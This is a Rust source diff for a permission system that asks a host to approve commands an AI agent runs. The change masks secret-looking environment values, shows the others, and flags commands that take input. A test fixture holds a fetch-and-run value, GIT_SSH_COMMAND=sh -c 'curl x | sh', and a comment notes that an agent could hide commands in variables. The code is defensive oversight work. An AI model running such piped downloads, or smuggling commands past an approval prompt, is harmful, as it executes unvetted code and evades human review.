@@ -3,9 +3,10 @@
 //! Init keeps such a command until it has an [`Answer`], and sends a [`Question`] to the host. Each question has exactly one end:
 //! the command starts, or it is denied for one of the reasons in [`Denial`]. Init sends a [`QuestionEnded`] in both cases.
 
-use std::ffi::{OsStr, OsString};
-use std::os::unix::ffi::OsStrExt as _;
+use std::borrow::Cow;
+use std::ffi::OsStr;
 
+use safe_text::secrets::looks_secret;
 use serde::{Deserialize, Serialize};
 
 use super::command::Exec;
@@ -20,11 +21,13 @@ pub const MAX_QUESTION: usize = 12 << 10;
 
 /// The maximum lengths of the texts of a question as JSON, in bytes. With the other fields, they are shorter than [`MAX_QUESTION`].
 const MAX_ARGV: usize = 8 << 10;
-const MAX_ENV: usize = 1 << 10;
+const MAX_ENV: usize = 7 << 8;
 const MAX_WORKDIR: usize = 1 << 10;
 const MAX_USER: usize = 256;
 const MAX_RULE: usize = 256;
 const MAX_REASON: usize = 256;
+/// What a [`Question`] has in place of the value of a secret.
+const MASK: &str = "…";
 /// The quotes and the comma of a word in JSON, in bytes.
 const WORD: usize = 3;
 
@@ -47,9 +50,14 @@ pub struct Question {
     /// Whether the command has further words or variables, or more of a word, which the question has no room for.
     #[serde(default, skip_serializing_if = "std::ops::Not::not")]
     pub is_cut: bool,
-    /// The names of the variables that the caller has given.
+    /// The variables that the caller has given, as `NAME=VALUE`. The value is `…` if the name is that of a secret. An init of an
+    /// earlier version sends the names alone.
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     pub env: Vec<String>,
+    /// Whether the command has an input, which the question does not have: standard input, or a terminal. Such a command is not
+    /// approved for the rest of the run, because `psql` with one script is not `psql` with another.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub has_input: bool,
     /// The user that the caller has given.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub user: Option<String>,
@@ -69,8 +77,8 @@ impl Question {
     /// Creates the question about a command with the rule and the reason. Its number and its time are 0, and it has no id. A text that is
     /// too long is cut.
     pub fn about(exec: &Exec, by: Caller, (rule, reason): (Option<&str>, &str)) -> Self {
-        let (argv, is_argv_cut) = words(exec.argv.iter().map(OsString::as_os_str), MAX_ARGV);
-        let (env, is_env_cut) = words(exec.env.iter().map(|it| variable_name(it)), MAX_ENV);
+        let (argv, is_argv_cut) = words(exec.argv.iter().map(|it| it.to_string_lossy()), MAX_ARGV);
+        let (env, is_env_cut) = words(exec.env.iter().map(|it| masked(it)), MAX_ENV);
         let cut = |text: &str, mut room: usize| beginning(text, &mut room);
         Self {
             question: 0,
@@ -80,6 +88,7 @@ impl Question {
             argv,
             is_cut: is_argv_cut || is_env_cut,
             env,
+            has_input: exec.has_input(),
             user: exec.user.as_deref().map(|it| cut(it, MAX_USER)),
             workdir: exec.workdir.as_ref().map(|it| cut(&it.to_string_lossy(), MAX_WORKDIR)),
             rule: rule.map(|it| cut(it, MAX_RULE)),
@@ -94,19 +103,22 @@ impl Question {
     }
 }
 
-/// Returns the name in `NAME=VALUE`.
-fn variable_name(variable: &OsStr) -> &OsStr {
-    let name = variable.as_bytes().split(|it| *it == b'=').next();
-    OsStr::from_bytes(name.unwrap_or_default())
+/// Returns a variable as text, without the value if its name is that of a secret. A value that looks like one is shown: the agent could
+/// hide a command in it, as in `GIT_SSH_COMMAND`.
+fn masked(variable: &OsStr) -> Cow<'_, str> {
+    let text = variable.to_string_lossy();
+    match text.split_once('=') {
+        Some((name, _)) if looks_secret(name, "x") => format!("{name}={MASK}").into(),
+        _ => text,
+    }
 }
 
 /// Returns the words that fit into `room` bytes of JSON, and whether there is more.
-fn words<'a>(all: impl Iterator<Item = &'a OsStr>, mut room: usize) -> (Vec<String>, bool) {
+fn words<'a>(all: impl Iterator<Item = Cow<'a, str>>, mut room: usize) -> (Vec<String>, bool) {
     let mut fitting = Vec::new();
-    for word in all {
+    for text in all {
         let Some(left) = room.checked_sub(WORD) else { return (fitting, true) };
         room = left;
-        let text = word.to_string_lossy();
         let begun = beginning(&text, &mut room);
         let is_whole = begun.len() == text.len();
         fitting.push(begun);
@@ -239,8 +251,10 @@ pub enum FollowQuestions {
 
 #[cfg(test)]
 mod tests {
+    use std::ffi::OsString;
     use std::os::unix::ffi::OsStringExt as _;
 
+    use super::super::command::TerminalSize;
     use super::*;
 
     fn about(argv: Vec<OsString>) -> Question {
@@ -257,11 +271,31 @@ mod tests {
     }
 
     #[test]
-    fn variables_are_named_and_their_values_are_not_shown() {
-        let env = vec!["TOKEN=secret".into(), "EMPTY=".into()];
+    fn variables_have_their_values_unless_their_names_are_those_of_secrets() {
+        let ssh = "GIT_SSH_COMMAND=sh -c 'curl x | sh' --password=ghp_0123456789abcdef";
+        let env = ["API_TOKEN=secret", "EMPTY=", ssh, "DB_PASSWORD"].map(OsString::from).into();
         let exec = Exec { env, ..Exec::new(ComponentName::Business, ["git"]) };
         let question = Question::about(&exec, Caller::Host, (None, ""));
-        assert_eq!((question.env.concat(), question.is_cut), ("TOKENEMPTY".to_owned(), false));
+        assert_eq!(question.env, ["API_TOKEN=…", "EMPTY=", ssh, "DB_PASSWORD"]);
+        assert!(!question.is_cut && !question.has_input);
+        let long = vec![OsString::from("A=".to_owned() + &"x".repeat(MAX_ENV)), "B=b".into()];
+        let question = Question::about(&Exec { env: long, ..exec }, Caller::Host, (None, ""));
+        assert!(question.is_cut && question.is_short() && question.env.len() == 1);
+    }
+
+    #[test]
+    fn a_question_says_that_the_command_has_an_input() {
+        let exec = Exec::new(ComponentName::Business, ["psql", "prod"]);
+        let terminal = Some(TerminalSize { rows: 24, columns: 80 });
+        let has_input = |exec: &Exec| Question::about(exec, Caller::Agent, (None, "")).has_input;
+        assert!(!has_input(&exec));
+        assert!(has_input(&Exec { stdin: true, ..exec.clone() }));
+        assert!(has_input(&Exec { terminal, ..exec.clone() }));
+        // An init of an earlier version does not send the field.
+        let text = serde_json::to_string(&Question::about(&exec, Caller::Agent, (None, "")));
+        let text = text.unwrap();
+        assert!(!text.contains("has_input"), "{text}");
+        assert!(!serde_json::from_str::<Question>(&text).unwrap().has_input);
     }
 
     #[test]
